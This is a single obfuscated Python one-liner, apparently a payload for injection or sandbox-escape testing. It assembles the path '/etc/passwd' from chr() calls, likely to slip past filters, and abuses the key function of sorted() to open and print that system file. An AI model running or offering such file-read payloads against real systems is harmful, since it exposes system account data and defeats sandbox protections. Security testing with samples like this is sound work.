sorted([chr(47) + "etc" + chr(47) + "passwd"], key=lambda p: print(open(p).read()))
